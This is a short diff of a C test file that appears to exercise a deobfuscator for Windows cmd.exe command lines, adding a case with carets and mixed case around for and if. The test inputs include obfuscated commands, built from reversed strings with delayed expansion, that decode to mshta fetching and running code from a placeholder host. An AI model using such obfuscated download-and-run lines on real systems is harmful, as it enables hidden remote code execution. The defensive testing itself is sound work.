@@ -152,6 +152,9 @@ test_delayed_and_nesting(void **state)
 	EXPECT("cmd /v /c \"set r=atc/moc.elpmaxe.r//:ptth athsm&&for /L %i in (29,-1,0) do "
 	    "set o=!o!!r:~%i,1!&&if %i==0 call %o%\"",
 	    "http://r.example.com/cta", "mshta http://r.example.com/cta");
+	/* carets, case and delimiters around for and if */
+	EXPECT("cmd /v /c \"set a=xathsm&&F^oR,/L %i in (5,-1,1) do set o=!o!!a:~%i,1!&&I^f %i==1 "
+	    "call %o% y\"", "mshta y");
 	/* in a batch file %%i */
 	EXPECT("setlocal enabledelayedexpansion\nfor /L %%i in (1,1,3) do set v=!v!%%i\n"
 	    "powershell !v!\n", "powershell 123");
